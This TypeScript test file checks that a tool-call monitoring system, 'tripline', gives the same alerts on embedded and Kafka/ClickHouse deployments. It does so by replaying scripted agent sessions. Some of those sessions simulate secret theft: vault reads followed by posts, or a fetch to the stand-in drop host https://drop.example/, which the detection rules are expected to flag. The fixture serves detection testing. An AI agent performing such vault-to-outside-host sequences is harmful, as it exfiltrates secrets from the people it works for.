/** One story on the embedded and on the Kafka + ClickHouse-HTTP deployment, and the log of one brought into the other. */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import test, { after, before, describe, it } from 'node:test';
import { LEDGER_TOPICS, TOPICS } from '../../schemas/topics.ts';
import type { BusRecord } from '../../services/platform/bus/port.ts';
import { openBus } from '../integration/detect/harness.ts';
import { brokerMissing } from '../support/kafka/broker.ts';
import {
  openClusterBus,
  startBackends,
  writeClusterConfig,
  type Backends,
} from '../support/scenario/cluster.ts';
import { APPROVAL, CALLS, StreamWriter, type Call, type Sent } from '../support/scenario/events.ts';
import { detectAnew, recordsByPartition } from '../support/scenario/fresh-detect.ts';
import { getJson, settled } from '../support/scenario/ledger.ts';
import { killAll, tripline, up } from '../support/scenario/tripline.ts';

/** What each session does, in order of time, one call a second. */
const STORY: readonly (readonly [session: string, ...calls: Call[]])[] = [
  ['benign', CALLS.search, CALLS.list, CALLS.read],
  ['benign-2', CALLS.list, CALLS.write, APPROVAL, CALLS.remove],
  ['attack', CALLS.search, CALLS.list, CALLS.vault, CALLS.post],
  ['unapproved', CALLS.list, CALLS.remove],
  ['relay-a', CALLS.search, { ...CALLS.write, args: { path: 'handover/1', content: '…' } }],
  ['relay-b', { ...CALLS.read, args: { path: 'handover/1' } }, CALLS.post],
  ['sink', CALLS.vault, { server: 'fetch', tool: 'fetch_url', args: { url: 'https://drop.example/' } }],
];

/** Told by hand from the rules' descriptions: rule and the calls of the chain, as session:seq. */
const EXPECTED = [
  'absence.delete-without-approval unapproved:1',
  'chain.search-vault-post attack:0 attack:2 attack:3',
  'chain.secret-to-sink attack:2 attack:3',
  'chain.secret-to-sink sink:0 sink:1',
  // Rules on alerts: two different high alerts of one agent within the hour.
  'correlation.two-high-alerts attack:3 relay-b:1',
  'cross.agent-relay relay-a:0 relay-a:1 relay-b:0 relay-b:1',
  // In mode shadow: each session's first call to an outside host; alerts of it make the rule below.
  'exfil.first-contact attack:3',
  'exfil.first-contact relay-b:1',
  'exfil.first-contact sink:1',
  'exfil.new-host-after-secret attack:2 attack:3',
  'exfil.new-host-after-secret sink:0 sink:1',
];

function story(): Sent[] {
  const total = STORY.reduce((sum, [, ...calls]) => sum + calls.length, 0);
  let timeMs = Date.now() - (total + 60) * 1000;
  return STORY.flatMap(([session, ...calls]) => {
    const writer = new StreamWriter('default', session);
    return calls.map((call) => writer.event(call, (timeMs += 1000)));
  });
}

interface Alert {
  readonly id: string;
  readonly ruleId: string;
  readonly calls: readonly { readonly eventId: string }[];
}
interface Head {
  readonly origin: string;
  readonly size: number;
  readonly root: string;
}
interface Told {
  readonly alerts: readonly Alert[];
  readonly heads: readonly Head[];
}

const missing = await brokerMissing();
if (missing === undefined) describe('the same story on both deployments', sameStory);
else test('the same story on both deployments', { skip: missing }, () => undefined);

function sameStory(): void {
  const root = mkdtempSync(join(tmpdir(), 'tripline-same-'));
  const file = join(root, 'story.ndjson');
  const events = story();
  let backends: Backends;
  let embedded: Told;
  let cluster: Told;
  let imported: ReadonlyMap<string, readonly (readonly BusRecord[])[]>;

  before(async () => {
    writeFileSync(file, events.map(({ line }) => `${line}\n`).join(''));
    backends = await startBackends(root);
  });
  after(async () => {
    await killAll();
    await backends.stop();
    rmSync(root, { recursive: true, force: true, maxRetries: 5 });
  });

  async function run(
    name: string,
    options: { configFile?: string; steps?: string; file?: string },
  ): Promise<Told> {
    const dataDir = join(root, name);
    const { configFile, steps } = options;
    const service = up({
      dataDir,
      logFile: join(root, `${name}.log`),
      ...(configFile === undefined ? {} : { configFile }),
      ...(steps === undefined ? {} : { steps }),
    });
    const url = await service.url;
    const token = readFileSync(join(dataDir, 'admin.token'), 'utf8').trim();
    if (options.file !== undefined) {
      const sender = readFileSync(join(dataDir, 'producer.token'), 'utf8').trim();
      const env = { TRIPLINE_URL: url, TRIPLINE_TOKEN: sender };
      const sent = await tripline(['replay', options.file, '--format', 'event'], env);
      const totals = { sent: events.length, accepted: events.length, duplicates: 0, rejected: 0 };
      assert.deepEqual([sent.code, sent.items.at(-1)], [0, totals], sent.stderr);
    }
    await settled(() => url, token, 90_000);
    const alerts = await getJson<{ items: Alert[] }>(`${url}/v1/alerts?limit=500&tenant=default`, token);
    const ledger = await getJson<{ heads: { heads: Head[] }[] }>(`${url}/v1/ledger`, token);
    assert.equal(await service.stop(), 0);
    const verified = await tripline(['verify'], {
      TRIPLINE_DATA_DIR: dataDir,
      ...(configFile === undefined ? {} : { TRIPLINE_CONFIG: configFile }),
    });
    assert.equal(verified.code, 10, JSON.stringify(verified.items) + verified.stderr);
    return { alerts: alerts?.items ?? [], heads: (ledger?.heads ?? []).flatMap(({ heads }) => heads) };
  }

  function readable(told: Told): string[] {
    const names = new Map(
      events.map((event) => [`${event.stream}-${event.seq}`, `${event.session}:${event.seq}`]),
    );
    const calls = (alert: Alert) => alert.calls.map(({ eventId }) => names.get(eventId) ?? eventId).join(' ');
    return told.alerts.map((alert) => `${alert.ruleId} ${calls(alert)}`).toSorted();
  }

  it('embedded tells the chains that are in it', async () => {
    embedded = await run('embedded', { file });
    assert.deepEqual(readable(embedded), EXPECTED);
  });

  it('Kafka and ClickHouse-HTTP tell the same, with the same ids', async () => {
    const configFile = join(root, 'cluster.yaml');
    writeClusterConfig(configFile, backends, []);
    cluster = await run('cluster', { configFile, file });
    assert.deepEqual(readable(cluster), EXPECTED);
    assert.deepEqual(ids(cluster), ids(embedded));
  });

  it('the topics of Kafka give the same ledger roots in an embedded deployment', async () => {
    const bus = await openClusterBus(backends);
    const topics = new Map<string, BusRecord[][]>();
    for (const topic of LEDGER_TOPICS) topics.set(topic, await recordsByPartition(bus, topic));
    imported = topics;
    await bus.close();
    const dataDir = join(root, 'imported');
    mkdirSync(dataDir, { mode: 0o700 });
    const own = await openBus(join(dataDir, 'bus'));
    for (const [topic, partitions] of topics)
      for (const [partition, records] of partitions.entries())
        await own.importPartition(topic, partition, records);
    await own.close();
    const told = await run('imported', { steps: 'sign,record,query' });
    assert.deepEqual(roots(told), roots(cluster));
    assert.deepEqual(ids(told), ids(cluster));
  });

  it('a fresh detection over these topics gives the same ids and appends nothing to the tool calls', async () => {
    const calls = imported.get(TOPICS.toolcalls.name) ?? [];
    const fresh = await detectAnew(join(root, 'fresh'), calls, 60_000);
    assert.deepEqual(fresh, { ids: ids(cluster), appended: 0 });
  });
}

function ids(told: Told): string[] {
  return told.alerts.map(({ id }) => id).toSorted();
}

/** Roots of the logs of events and alerts; the audit log also holds what is read while a deployment runs. */
function roots(told: Told): string[] {
  const own = [TOPICS.toolcalls.name, TOPICS.alerts.name];
  const heads = told.heads.filter(({ origin }) => own.some((topic) => origin.includes(`/${topic}/`)));
  assert.ok(heads.length > 3, 'several logs');
  return heads.map(({ origin, size, root }) => `${origin} ${size} ${root}`).toSorted();
}
